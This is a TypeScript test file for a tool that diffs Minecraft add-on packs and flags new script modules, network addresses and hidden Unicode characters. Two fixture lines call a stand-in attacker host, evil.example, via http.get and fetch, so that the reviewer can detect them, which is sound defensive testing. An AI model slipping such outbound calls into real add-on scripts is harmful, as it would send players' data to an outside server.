import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { MAX_DIFF_BYTES, MAX_DIFF_FILES, MAX_DIFF_TEXT_BYTES } from '@sandcrate/core/pack/limits.ts';
import { describe, expect, test } from 'vitest';
import { nodeUnpacker } from '../node/node-unpacker.ts';
import { fromBytes } from '../random-access.ts';
import { manifestOf, manifestPart, uuidOf } from '../testing/manifests.ts';
import { type ZipPart, zipOf } from '../testing/zip-of.ts';
import { diffPacks } from './diff-packs.ts';
import { PackDiff, withoutContents } from './pack-diff.ts';

const diffZips = (before: Uint8Array, after: Uint8Array) =>
  diffPacks(fromBytes(before), fromBytes(after), { unpacker: nodeUnpacker });
const pack = (...parts: ZipPart[]) => zipOf([manifestPart(), ...parts]);
const diff = (before: ZipPart[], after: ZipPart[]) => diffZips(pack(...before), pack(...after));
const file = (name: string, content: string | Uint8Array = 'x'): ZipPart => ({ name, content });

test('added, removed and changed files are listed, scripts first', async () => {
  const found = await diff(
    [
      file('textures/a.png', 'old'),
      file('sounds/gone.ogg'),
      file('texts/en_US.lang', 'a=b\nc=d\n'),
      file('same.json'),
    ],
    [
      file('textures/a.png', 'new'),
      file('texts/en_US.lang', 'a=b\nc=e\n'),
      file('scripts/main.js', 'world.say();\n'),
      file('same.json'),
    ],
  );
  expect(found).toMatchObject({ added: 1, removed: 1, changed: 2, unchanged: 2, scripts: 1 });
  expect(found.files).toEqual([
    {
      change: 'added',
      role: 'script',
      path: 'scripts/main.js',
      pathBefore: null,
      bytesBefore: null,
      bytesAfter: 13,
      hunks: [{ before: 1, after: 1, lines: ['+world.say();'] }],
    },
    expect.objectContaining({
      change: 'changed',
      role: 'text',
      hunks: [{ before: 1, after: 1, lines: [' a=b', '-c=d', '+c=e'] }],
    }),
    expect.objectContaining({ change: 'changed', role: 'picture', path: 'textures/a.png', hunks: null }),
    expect.objectContaining({ change: 'removed', role: 'other', path: 'sounds/gone.ogg', bytesAfter: null }),
  ]);
});

test('a pack is matched by its UUID when its folder and archive are renamed', async () => {
  const inner = pack(file('scripts/main.js', 'one()\n'));
  const found = await diffZips(
    zipOf([{ name: 'Lanterns v1.mcpack', content: inner }]),
    zipOf([manifestPart(manifestOf(), 'Lanterns v2/'), file('Lanterns v2/scripts/main.js', 'two()\n')]),
  );
  expect(found).toMatchObject({ added: 0, removed: 0, changed: 1, unchanged: 1 });
  expect(found.files).toMatchObject([
    { path: 'Lanterns v2/scripts/main.js', pathBefore: 'Lanterns v1.mcpack/scripts/main.js' },
  ]);
});

test('a pack with a new UUID is compared with the one at the same path', async () => {
  const found = await diffZips(
    pack(file('scripts/main.js', 'one()\n')),
    zipOf([manifestPart(manifestOf({ uuid: uuidOf('c') })), file('scripts/main.js', 'one()\n')]),
  );
  expect(found).toMatchObject({ added: 0, removed: 0, changed: 1, unchanged: 1 });
  expect(found.files).toMatchObject([{ role: 'manifest', path: 'manifest.json', pathBefore: null }]);
});

test('new modules and addresses in scripts are reported', async () => {
  const before = `import { world } from '@minecraft/server'; // https://docs.example/one`;
  const found = await diff(
    [file('scripts/main.js', before)],
    [
      file('scripts/main.js', before),
      file(
        'scripts/send.js',
        `import { http } from "@minecraft/server-net";\nhttp.get('https://evil.example/?p=1');`,
      ),
    ],
  );
  expect(found.newModules).toEqual(['@minecraft/server-net']);
  expect(found.newAddresses).toEqual(['https://evil.example/?p=1']);
});

test('characters that hide what a script does are spelled out', async () => {
  const found = await diff([], [file('scripts/main.js', 'if (a\u202e)\tb\u200b\0()')]);
  expect(found.files[0]?.hunks?.[0]?.lines).toEqual(['+if (a\\u202E)\tb\\u200B\\u0000()']);
});

test('files of the same size and checksum are told apart by their bytes', async () => {
  const part = (content: string): ZipPart => ({ name: 'data.bin', content });
  expect(await diff([part('one')], [part('two')])).toMatchObject({ changed: 1 });
  expect(await diff([part('one')], [part('one')])).toMatchObject({ changed: 0, unchanged: 2 });
});

test('a different line ending is not a change', async () => {
  const found = await diff([file('a.txt', 'a\r\nb\r\n')], [file('a.txt', 'a\nb\n')]);
  expect(found.files).toMatchObject([{ change: 'changed', hunks: [] }]);
});

test('texts that are too large or too different are listed without lines', async () => {
  const lines = (mark: string) => Array.from({ length: 20_000 }, (_, n) => `${mark}${n % 97}`).join('\n');
  const found = await diff(
    [file('a.json', 'x'), file('b.json', lines('a'))],
    [file('a.json', 'y'.repeat(MAX_DIFF_TEXT_BYTES + 1)), file('b.json', lines('b'))],
  );
  expect(found.files.map(({ path, hunks }) => [path, hunks])).toEqual([
    ['a.json', null],
    ['b.json', null],
  ]);
});

test('the comparison stays within its bounds, and counts the rest', async () => {
  const many = Array.from({ length: MAX_DIFF_FILES + 5 }, (_, n) =>
    file(`texts/${n}.txt`, `${'ü'.repeat(400)}\n`.repeat(9)),
  );
  const found = await diff([], many);
  expect(found.added).toBe(MAX_DIFF_FILES + 5);
  expect(found.files).toHaveLength(MAX_DIFF_FILES);
  const hunks = JSON.stringify(found.files.map((one) => one.hunks));
  expect(Buffer.byteLength(hunks)).toBeLessThan(MAX_DIFF_BYTES + MAX_DIFF_FILES * 8);
  expect(found.files.at(-1)?.hunks).toBeNull();
});

test('a redacted comparison names only files and modules', async () => {
  const found = await diff([], [file('scripts/main.js', `fetch('https://evil.example')`)]);
  const names = withoutContents(found);
  expect(names.files).toMatchObject([{ path: 'scripts/main.js', hunks: null }]);
  expect(JSON.stringify(names)).not.toContain('evil');
});

const folder = new URL('../../../shared/real-input/packs/', import.meta.url);
describe.runIf(existsSync(folder))('real packs', () => {
  const packs = existsSync(folder) ? readdirSync(folder) : [];
  const bytesOf = (name: string) => readFileSync(new URL(encodeURIComponent(name), folder));

  test.each(packs)('%s does not differ from itself', async (name) => {
    const found = await diffZips(bytesOf(name), bytesOf(name));
    expect(found).toMatchObject({ added: 0, removed: 0, changed: 0, files: [] });
    expect(found.unchanged).toBeGreaterThan(0);
  });

  test('the comparison of any two packs fits the schema', async () => {
    for (const [index, name] of packs.entries()) {
      const other = packs[(index + 1) % packs.length] ?? name;
      const found = await diffZips(bytesOf(name), bytesOf(other));
      expect(PackDiff.parse(found).added, name).toBeGreaterThan(0);
    }
  });
});
